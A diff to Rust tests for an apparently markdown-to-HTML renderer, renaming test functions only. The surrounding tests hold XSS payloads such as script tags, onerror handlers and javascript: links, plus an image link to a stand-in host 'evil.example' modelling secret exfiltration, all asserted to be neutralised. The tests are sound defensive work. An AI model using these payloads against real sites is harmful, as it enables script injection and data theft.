@@ -91,7 +91,7 @@ fn assert_harmless(source: &str) {
 }
 
 #[test]
-fn attack11_markup_in_text_stays_text() {
+fn a11_markup_in_text_stays_text() {
     let hostile = [
         "<script>alert(1)</script>",
         "<img src=x onerror=alert(1)>",
@@ -136,7 +136,7 @@ fn attack11_markup_in_text_stays_text() {
 }
 
 #[test]
-fn attack11_links_lead_only_where_allowed() {
+fn a11_links_lead_only_where_allowed() {
     let hostile = [
         "[x](javascript:alert(1))",
         "[x](JAVASCRIPT:alert(1))",
@@ -164,7 +164,7 @@ fn attack11_links_lead_only_where_allowed() {
 }
 
 #[test]
-fn attack12_images_are_links_and_never_load() {
+fn a12_images_are_links_and_never_load() {
     let html = html("![secret](https://evil.example/?q=secret)");
     assert!(!html.contains("<img") && !html.contains("src="), "{html}");
     assert!(html.contains("href=\"https://evil.example/?q=secret\""), "{html}");
@@ -175,7 +175,7 @@ fn attack12_images_are_links_and_never_load() {
 }
 
 #[test]
-fn attack11_direction_overrides_are_dropped() {
+fn a11_direction_overrides_are_dropped() {
     let html = html("`a\u{202E}b\u{2066}c` d\u{202D}e");
     assert_eq!(html, "<p><code>abc</code> de</p>");
 }
